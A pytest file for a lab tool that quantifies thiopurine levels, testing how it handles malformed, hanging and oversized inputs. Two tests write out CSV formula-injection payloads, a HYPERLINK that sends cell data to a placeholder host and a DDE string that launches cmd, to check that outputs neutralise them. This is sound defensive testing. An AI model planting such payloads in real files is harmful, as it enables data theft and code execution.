"""Issue 22: inputs that stopped, hung or swamped a whole batch, or whose damage reached a patient
result. Each case gives a clear per-injection flag or a clear refusal, fast."""

from __future__ import annotations

import contextlib
import csv
import os
import re
import shutil
import signal
import sys
from pathlib import Path

import pytest

from thioquant.cli import main
from thioquant.errors import InputError
from thioquant.io import read_run
from thioquant.locations import default_output_dir
from thioquant.pipeline import quantify

CORPUS = Path(__file__).resolve().parent / "bad_inputs"


@contextlib.contextmanager
def deadline(seconds: int):
    """Fail (instead of hanging the suite) when the block takes longer than ``seconds``."""
    def fail(signum, frame):
        raise TimeoutError(f"still running after {seconds} s: it hangs")

    old = signal.signal(signal.SIGALRM, fail)
    signal.alarm(seconds)
    try:
        yield
    finally:
        signal.alarm(0)
        signal.signal(signal.SIGALRM, old)


def _point(batch: Path, sample_id: str, file: str) -> None:
    """Make the worklist row of ``sample_id`` name ``file``."""
    wl = batch / "worklist.csv"
    with open(wl, newline="") as fh:
        rows = list(csv.DictReader(fh))
    for r in rows:
        if r["sample_id"] == sample_id:
            r["file"] = file
    with open(wl, "w", newline="") as fh:
        w = csv.DictWriter(fh, fieldnames=list(rows[0]), lineterminator="\n")
        w.writeheader()
        w.writerows(rows)


def _flags(res, sample_id: str) -> set[str]:
    return {f for r in res.results if r.sample_id == sample_id for f in r.flags}


def test_hplcuv_batch_with_text_in_ordinate_values_goes_on(sample_batch, capsys):
    # was: ValueError: could not convert string to float, exit 70, no output at all
    b = sample_batch("hplcuv")
    shutil.copy(CORPUS / "raw" / "text_ordinate.cdf", b / "raw" / "016_P002.cdf")
    _point(b, "P002", "raw/016_P002.cdf")
    main(["quantify", str(b), "--no-history", "--no-report", "--no-pdf", "--quiet"])  # no SystemExit
    assert "Run ACCEPTED" in capsys.readouterr().out
    msgs = (default_output_dir(b) / "messages.txt").read_text()
    assert "016_P002.cdf" in msgs and "'ordinate_values' holds text, not numbers" in msgs
    with open(default_output_dir(b) / "results.csv", newline="") as fh:
        rows = [r for r in csv.DictReader(fh) if r["sample_id"] == "P002"]
    assert rows and all("MISSING_FILE" in r["flags"] for r in rows)
    with open(default_output_dir(b) / "results.csv", newline="") as fh:
        others = [r for r in csv.DictReader(fh) if r["sample_type"] == "unknown" and r["sample_id"] != "P002"]
    assert sum(r["reported"] not in ("", "nan") for r in others) >= 20


def test_inspect_of_a_cdf_with_text_values_is_a_clear_error(capsys):
    with pytest.raises(SystemExit) as done:
        main(["inspect", str(CORPUS / "raw" / "text_ordinate.cdf")])
    err = capsys.readouterr().err
    assert done.value.code == 2, err
    assert err.startswith("error:") and "text_ordinate.cdf" in err and "ordinate_values" in err
    assert "Traceback" not in err and "internal error" not in err


def test_a_reader_library_crash_is_the_injections_problem(tmp_path, monkeypatch):
    # whatever a reader or its library raises on bad bytes becomes an InputError naming the file
    import thioquant.io.delimited as delimited

    def boom(*a, **k):
        raise struct_error("unpack requires a buffer of 4 bytes")

    struct_error = __import__("struct").error
    monkeypatch.setattr(delimited, "read_delimited", boom)
    p = tmp_path / "x.csv"
    p.write_text("time_min,signal\n0,1\n0.1,2\n")
    with pytest.raises(InputError, match=r"x.csv: could not be read as delimited \(error: unpack"):
        read_run(p)


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="no FIFOs on this system")
def test_a_fifo_is_refused_before_it_is_hashed(sample_batch, tmp_path):
    # was: quantify hung for ever in the measurement cache, which hashed the FIFO first
    b = sample_batch("lcmsms")
    (b / "raw" / "016_P002.mzML").unlink()
    os.mkfifo(b / "raw" / "016_P002.mzML")
    with deadline(120):
        res = quantify(b, cache=tmp_path / "cache.sqlite")
    assert "MISSING_FILE" in _flags(res, "P002")
    assert any("016_P002.mzML: not a regular file (a FIFO (named pipe))" in m for m in res.messages)
    with pytest.raises(InputError, match="not a regular file"):
        read_run(b / "raw" / "016_P002.mzML")


@pytest.mark.skipif(not Path("/dev/zero").exists(), reason="no /dev/zero")
def test_a_worklist_naming_dev_zero_gets_the_right_reason(sample_batch, tmp_path):
    # was: a hang with the cache; without it MISSING_FILE with the wrong reason ("file is empty")
    b = sample_batch("lcmsms")
    _point(b, "P002", "/dev/zero")
    with deadline(120):
        res = quantify(b, cache=tmp_path / "cache.sqlite")
    assert "MISSING_FILE" in _flags(res, "P002")
    msg = [m for m in res.messages if "/dev/zero" in m and "MISSING" not in m and "outside" not in m]
    assert any("not a regular file (a character device)" in m for m in msg), msg
    assert not any("file is empty" in m for m in res.messages)


def test_aia_retention_array_of_another_length_is_noted(tmp_path):
    run = read_run(CORPUS / "raw" / "retention_half.cdf")
    tr = run.traces[0]
    # times from actual_delay_time + i x actual_sampling_interval (0.2 s), for every value
    assert tr.time_min.size == tr.signal.size == 4201
    assert tr.time_min[-1] == pytest.approx(4200 * 0.2 / 60)
    notes = run.metadata["reader_notes"]
    assert len(notes) == 1 and "ASTM E1947" in notes[0] and "2100 points" in notes[0]


def test_aia_retention_array_that_disagrees_is_refused(tmp_path):
    from scipy.io import netcdf_file

    src = CORPUS / "raw" / "retention_half.cdf"
    p = tmp_path / "r.cdf"
    shutil.copy(src, p)
    with netcdf_file(str(p), "a", mmap=False) as nc:
        nc.variables["raw_data_retention"][10] += 5.0
    with pytest.raises(InputError, match="r.cdf: 'raw_data_retention' has 2100 points.*sampling times are unknown"):
        read_run(p)


def test_aia_retention_note_reaches_the_batch_messages(sample_batch, tmp_path):
    b = sample_batch("hplcuv")
    shutil.copy(CORPUS / "raw" / "retention_half.cdf", b / "raw" / "016_P002.cdf")
    _point(b, "P002", "raw/016_P002.cdf")
    res = quantify(b, cache=tmp_path / "c.sqlite")
    assert any(m.startswith("row ") and "(P002): raw/016_P002.cdf: 'raw_data_retention' has 2100" in m
               for m in res.messages), [m for m in res.messages if "P002" in m]
    again = quantify(b, cache=tmp_path / "c.sqlite")  # the note survives the measurement cache
    assert [m for m in again.messages if "raw_data_retention" in m] == \
        [m for m in res.messages if "raw_data_retention" in m]


def test_billion_laughs_fails_fast_with_bounded_memory():
    import resource

    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    with deadline(20), pytest.raises(InputError, match="billion_laughs.mzML: damaged mzML: DOCTYPE"):
        read_run(CORPUS / "raw" / "billion_laughs.mzML")
    grown_mb = (resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before) / (1024 if sys.platform != "darwin" else 2**20)
    assert grown_mb < 100


def test_mzml_larger_than_the_limit_is_refused(tmp_path, monkeypatch):
    p = tmp_path / "big.mzML"
    shutil.copy(Path(__file__).resolve().parents[1] / "sample_data" / "lcmsms" / "raw" / "016_P002.mzML", p)
    monkeypatch.setenv("THIOQUANT_MZML_MAX_MB", "1")
    with open(p, "ab") as fh:
        fh.write(b" " * (2 << 20))
    with pytest.raises(InputError, match="big.mzML: mzML of 2 MiB is larger than the limit of 1 MiB"):
        read_run(p)


def _many_rows(batch: Path, n: int, sample_id: str = "P002") -> None:
    """Append ``n`` rows naming ``sample_id``'s raw file, each under its own id."""
    lines = (batch / "worklist.csv").read_text().splitlines()
    row = next(x for x in lines[1:] if f",{sample_id}," in x).split(",")
    extra = []
    for i in range(n):
        r = list(row)
        r[0], r[1] = str(1000 + i), f"X{i}"
        extra.append(",".join(r))
    (batch / "worklist.csv").write_text("\n".join(lines + extra) + "\n")


def test_ten_thousand_rows_naming_one_file_give_one_message(sample_batch):
    from thioquant.assay.worklist import read_worklist

    b = sample_batch("lcmsms")
    _many_rows(b, 10_000)
    with deadline(60):
        wl = read_worklist(b / "worklist.csv")
    dup = [i for i in wl.issues if i.code == "DUPLICATE_FILE"]
    # was: 10,001 messages each listing all 10,001 rows (2.3 GB of output)
    assert len(dup) == 1
    assert "named by 10001 rows (17, 44-10043)" in dup[0].message and len(dup[0].message) < 400
    flagged = [e for e in wl.entries if "DUPLICATE_FILE" in e.flags]
    assert len(flagged) == 10_001 and not any(e.usable for e in flagged)
    assert sum(len(i.message) for i in wl.issues) < 10_000


def test_a_worklist_over_the_row_limit_needs_large(sample_batch, capsys):
    b = sample_batch("lcmsms")
    _many_rows(b, 5_000)
    with deadline(60), pytest.raises(SystemExit) as done:
        main(["quantify", str(b), "--no-history", "--no-cache"])
    err = capsys.readouterr().err
    assert done.value.code == 2
    assert "worklist has 5,042 injection rows, more than the limit of 5,000" in err and "--large" in err
    assert not (default_output_dir(b)).exists()
    with pytest.raises(InputError, match="more than the limit of 100"):
        quantify(b, max_rows=100)


def test_rows_naming_one_file_are_measured_once(sample_batch, tmp_path, monkeypatch):
    import thioquant.executors as ex

    b = sample_batch("lcmsms")
    _many_rows(b, 300)
    calls: list[str] = []
    real = ex.measure_injection

    def counting(path, *a, **k):
        calls.append(str(path))
        return real(path, *a, **k)

    monkeypatch.setattr(ex, "measure_injection", counting)
    res = quantify(b, cache=None)
    assert calls.count(str(b / "raw" / "016_P002.mzML")) == 1  # was 301
    assert len(calls) == len(set(calls)) == 42
    assert all("DUPLICATE_FILE" in r.flags and r.reported != r.reported
               for r in res.results if r.sample_id.startswith("X") or r.sample_id == "P002")
    # the other patients are quantified as before
    assert sum(r.reported == r.reported for r in res.results if r.sample_type == "unknown") >= 40


def test_no_patient_page_for_rows_whose_file_another_row_names(sample_batch, tmp_path):
    from thioquant.report.pdf import write_patient_pdfs

    b = sample_batch("lcmsms")
    _many_rows(b, 30)
    res = quantify(b, cache=None)
    paths = write_patient_pdfs(res, tmp_path / "patients")
    names = {p.name for p in paths}
    assert len(paths) == 23 and not any("X1" in n for n in names), sorted(names)  # was 54 pages


def test_an_override_for_an_unknown_analyte_is_refused_and_never_audited(sample_batch, tmp_path, capsys):
    # was: silently ignored, while audit.jsonl recorded a manual integration that never happened
    b = sample_batch("lcmsms")
    ov = tmp_path / "overrides.csv"
    ov.write_text("sample_id,analyte,start_min,end_min,reason\n"
                  "P003,6-TG,1.30,1.60,tailing peak split by the algorithm\n"
                  "P002,6-XX,1.30,1.60,baseline drawn by hand\n")
    with pytest.raises(SystemExit) as done:
        main(["quantify", str(b), "--no-history", "--no-report", "--no-pdf", "--no-cache",
              "--overrides", str(ov)])
    err = capsys.readouterr().err
    assert done.value.code == 2
    assert f"{ov}: row 3: manual integration for unknown analyte '6-XX'" in err
    assert "6-TG, 6-TG qualifier" in err  # the names it could have been
    assert not (default_output_dir(b)).exists()  # no audit trail of a manual integration that never happened


def test_an_override_for_an_unknown_sample_is_not_audited(sample_batch, tmp_path):
    b = sample_batch("lcmsms")
    ov = tmp_path / "overrides.csv"
    ov.write_text("sample_id,analyte,start_min,end_min,reason\n"
                  "P003,6-TG,1.30,1.60,tailing peak split by the algorithm\n"
                  "P999,6-TG,1.30,1.60,no such sample\n")
    res = quantify(b, overrides=ov, cache=None)
    assert [m["sample_id"] for m in res.manual] == ["P003"]
    assert any(f"{ov}: row 3: manual integration for unknown sample_id 'P999' ignored" in m for m in res.messages)


@pytest.mark.parametrize("command", ["quantify", "validate"])
def test_out_naming_an_existing_file_is_an_output_error(sample_batch, tmp_path, capsys, command):
    # was: exit 2 from click's own check; the README says output problems exit 5
    b = sample_batch("lcmsms")
    target = tmp_path / "notes.txt"
    target.write_text("my notes")
    with pytest.raises(SystemExit) as done:
        main([command, str(b), "--out", str(target)])
    err = capsys.readouterr().err
    assert done.value.code == 5, err
    assert err.startswith("error:") and "notes.txt: exists and is not a folder" in err
    assert target.read_text() == "my notes"


def test_output_folder_is_readable_by_others_under_the_umask(sample_batch, tmp_path):
    import stat

    b = sample_batch("lcmsms")
    old = os.umask(0o022)
    try:
        main(["quantify", str(b), "--no-history", "--no-report", "--no-pdf", "--no-cache", "--quiet",
              "--out", str(tmp_path / "out")])
        os.umask(0o027)  # a lab that keeps outputs from "others": respected
        main(["quantify", str(b), "--no-history", "--no-report", "--no-pdf", "--no-cache", "--quiet",
              "--out", str(tmp_path / "out2")])
    finally:
        os.umask(old)
    assert stat.S_IMODE((tmp_path / "out").stat().st_mode) == 0o755  # was 0700
    assert stat.S_IMODE((tmp_path / "out2").stat().st_mode) == 0o750


def test_formula_cells_are_neutralised_in_every_csv_output(sample_batch, tmp_path):
    # was: sample_id =HYPERLINK(...) kept as is in results.csv and interpretation.csv
    from thioquant.csvcell import safe_cell

    assert safe_cell("-1.5") == "-1.5" and safe_cell("+2") == "+2" and safe_cell("-inf") == "-inf"
    assert safe_cell("=1+1") == "'=1+1" and safe_cell("@SUM(A1)") == "'@SUM(A1)"
    assert safe_cell("\tx") == "'\tx" and safe_cell("-x") == "'-x" and safe_cell("P002") == "P002"
    b = sample_batch("lcmsms")
    evil = '=HYPERLINK("http://example.invalid/?"&A1,"P002")'
    text = (b / "worklist.csv").read_text()
    (b / "worklist.csv").write_text(text.replace(",P002,", f',"{evil.replace(chr(34), chr(34) * 2)}",')
                                    .replace(",P003,", ",@P003,").replace(",P004,", ",+P004,"))
    main(["quantify", str(b), "--no-history", "--no-report", "--no-pdf", "--no-cache", "--quiet",
          "--out", str(tmp_path / "out")])
    out = tmp_path / "out"
    seen = 0
    for name in ("results.csv", "interpretation.csv", "qc.csv"):
        with open(out / name, newline="") as fh:
            for row in csv.reader(fh):
                for cell in row:
                    if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
                        float(cell)  # only numbers may start so
                seen += sum(c == "'" + evil for c in row)
    assert seen == 3  # results (2 analytes) and interpretation keep the text, apostrophe first
    with open(out / "results.csv", newline="") as fh:
        rows = list(csv.DictReader(fh))
    assert {r["sample_id"] for r in rows} >= {"'" + evil, "'@P003", "'+P004"}
    assert any(r["conc"].startswith("-") or r["response"] for r in rows)  # numbers left as written
    for line in (out / "messages.txt").read_text().splitlines():
        assert not line.startswith(("=", "+", "@", "\t", "\r")), line


def test_write_interpretation_csv_neutralises_formulas(tmp_path):
    from thioquant.assay.interpret import INTERPRETATION_COLUMNS, write_interpretation_csv

    row = dict.fromkeys(INTERPRETATION_COLUMNS, "")
    row[INTERPRETATION_COLUMNS[0]] = "=cmd|' /C calc'!A0"
    p = write_interpretation_csv([row], tmp_path / "i.csv")
    with open(p, newline="") as fh:
        assert next(iter(csv.DictReader(fh)))[INTERPRETATION_COLUMNS[0]] == "'=cmd|' /C calc'!A0"


def test_quantify_out_writes_nothing_into_the_batch_folder(sample_batch, tmp_path):
    # was: .thioquant-cache.sqlite written into the batch folder (often a read-only instrument share)
    b = sample_batch("lcmsms")
    before = sorted(p.relative_to(b).as_posix() for p in b.rglob("*"))
    main(["quantify", str(b), "--out", str(tmp_path / "runs" / "out"), "--no-report", "--no-pdf", "--quiet"])
    assert sorted(p.relative_to(b).as_posix() for p in b.rglob("*")) == before
    assert (tmp_path / "runs" / ".thioquant-cache.sqlite").is_file()  # beside the outputs, as the QC history
    assert (tmp_path / "runs" / "qc_history.sqlite").is_file()


def test_terminal_does_not_count_the_cache_statistic_as_an_input_message(sample_batch, tmp_path, capsys):
    b = sample_batch("lcmsms")
    main(["quantify", str(b), "--out", str(tmp_path / "out"), "--no-report", "--no-pdf", "--no-history"])
    out = capsys.readouterr().out
    text = (tmp_path / "out" / "messages.txt").read_text()
    assert "measurement cache" in text
    # the count printed is that of the input messages (the bundled batch has some: apex spikes
    # corrected, SPIKE_APEX), without the cache statistic (it was counted: "1 message(s)")
    n_input = sum(1 for ln in text.splitlines() if ln.startswith("row "))
    m = re.search(r"(\d+) message\(s\) about the input", out)
    assert (int(m.group(1)) if m else 0) == n_input


@pytest.mark.parametrize("fmt", ["mzML", "cdf", "csv"])
def test_time_out_of_order_is_refused_by_every_reader(tmp_path, fmt):
    # docs/formats.md promises InputError; pyopenms sorted mzML times in silence
    import numpy as np
    from scipy.io import netcdf_file

    from thioquant.io.aia import write_aia
    from thioquant.io.delimited import write_delimited

    if fmt == "mzML":
        p = CORPUS / "raw" / "time_out_of_order.mzML"
    else:
        tr = read_run(Path(__file__).resolve().parents[1] / "sample_data" / "hplcuv" / "raw" / "016_P002.csv").traces[0]
        p = tmp_path / f"t.{fmt}"
        if fmt == "cdf":
            write_aia(p, tr)
            with netcdf_file(str(p), "a", mmap=False) as nc:
                t = nc.variables["raw_data_retention"]
                t[100], t[101] = float(t[101]), float(t[100])
        else:
            write_delimited(p, [tr])
            lines = p.read_text().splitlines()
            lines[101], lines[102] = lines[102], lines[101]
            p.write_text("\n".join(lines) + "\n")
        assert np.all(np.diff(tr.time_min) > 0)
    with pytest.raises(InputError, match="out of order|non-monotonic"):
        read_run(p)


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="no FIFOs on this system")
def test_a_worklist_that_is_a_fifo_is_refused(sample_batch, capsys):
    b = sample_batch("lcmsms")
    (b / "worklist.csv").unlink()
    os.mkfifo(b / "worklist.csv")
    with deadline(60), pytest.raises(SystemExit) as done:
        main(["quantify", str(b), "--no-history", "--no-report"])
    assert done.value.code == 2
    assert "worklist.csv: worklist is not a regular file" in capsys.readouterr().err


def test_terminal_lists_no_unused_duplicate_rows(sample_batch, capsys):
    b = sample_batch("lcmsms")
    _many_rows(b, 30)
    main(["quantify", str(b), "--no-history", "--no-report", "--no-pdf", "--no-cache"])
    out = capsys.readouterr().out
    assert "  X1 " not in out and "(31 patient row(s) not used, flagged in the worklist" in out
    assert "  P003 " in out
